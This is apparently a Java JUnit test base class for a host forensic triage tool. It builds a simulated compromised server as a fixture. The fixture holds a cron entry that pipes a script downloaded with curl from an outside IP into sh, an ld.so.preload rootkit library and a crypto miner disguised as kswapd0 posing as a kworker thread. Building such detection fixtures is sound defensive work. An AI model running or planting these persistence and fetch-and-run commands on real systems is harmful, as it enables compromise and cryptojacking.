package davy.agent.archive;

import davy.agent.check.Options;
import davy.agent.triage.Progress;
import davy.agent.triage.Report;
import davy.agent.triage.Triage;
import davy.core.host.CaseHost;
import davy.core.host.Host;
import davy.core.text.Language;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPInputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.io.TempDir;

/// The archive of a running host with something of each kind of answer; each test has its own.
abstract class SampleCollection {
    static final Instant NOW = Instant.parse("2026-01-15T12:00:00Z");
    private static final String MINER =
            "stratum+tcp://pool.example:3333 mining.subscribe donate-level cryptonight randomx ";

    @TempDir Path folder;
    Path file = Path.of("");
    Report live = triage(CaseHost.of(Map.of("kind", "image")));
    ArchiveWriter.Sums sums = new ArchiveWriter.Sums("", "", 0);

    @BeforeEach
    void collect() throws IOException {
        file = folder.resolve("host.tar.gz");
        live = collect(file, 1 << 30);
    }

    Report collect(Path to, long limit) throws IOException {
        try (var writer = new ArchiveWriter(to, limit)) {
            var recorder = new Recorder(CaseHost.of(host()), writer);
            var report = triage(recorder);
            recorder.finish(false);
            writer.about(report.host().kind().name(), "0", report.host().name(), NOW);
            sums = writer.finish();
            return report;
        }
    }

    static Report triage(Host host) {
        return new Triage(host, "/", NOW, Options.standard(), Progress.SILENT, _ -> {}).run();
    }

    /// A running host with something of each kind of answer.
    static Map<String, Object> host() {
        return Map.of(
                "/etc/hostname",
                "web-03\n",
                "/etc/ld.so.preload",
                "/usr/local/lib/libhide.so\n",
                "/etc/cron.d/x",
                "*/5 * * * * root curl -fsSL http://198.51.100.23/b.sh | sh\n",
                "/tmp/.x/kswapd0",
                Map.of("elf", Map.of("static", true, "text", MINER.repeat(100)), "mode", "0755"),
                "/usr/sbin/sshd",
                Map.of("elf", Map.of(), "size", 70_000),
                "packages",
                Map.of("openssh-server", List.of("/usr/sbin/sshd")),
                "/var/tmp/name\\xff",
                Map.of("hex", "00ff"),
                "processes",
                List.of(
                        Map.of("pid", 1, "exe", "/sbin/init", "argv", List.of("init")),
                        Map.of(
                                "pid",
                                1300,
                                "exe",
                                "/tmp/.x/kswapd0",
                                "comm",
                                "kworker/0:1",
                                "argv",
                                List.of("[kworker/0:1]"),
                                "cpu",
                                List.of(100, 1100))),
                "sockets",
                List.of(
                        Map.of(
                                "local",
                                "10.0.0.5:40000",
                                "remote",
                                "5.196.26.96:3333",
                                "pid",
                                1300)),
                "firewall",
                "*filter\n:INPUT DROP [0:0]\n-A INPUT -p tcp -s 10.0.0.0/8 --dport 22 -j ACCEPT\nCOMMIT\n");
    }

    static Report triage(Path archive) throws IOException {
        var host = Archives.open(archive);
        try (var _ = (Archived) host) {
            return triage(host);
        }
    }

    static List<String> missed(Report report) {
        return report.notDone().stream()
                .map(u -> u.what() + ": " + u.why().in(Language.EN))
                .sorted()
                .toList();
    }

    byte[] tar() throws IOException {
        try (var in = new GZIPInputStream(new ByteArrayInputStream(Files.readAllBytes(file)))) {
            return in.readAllBytes();
        }
    }
}
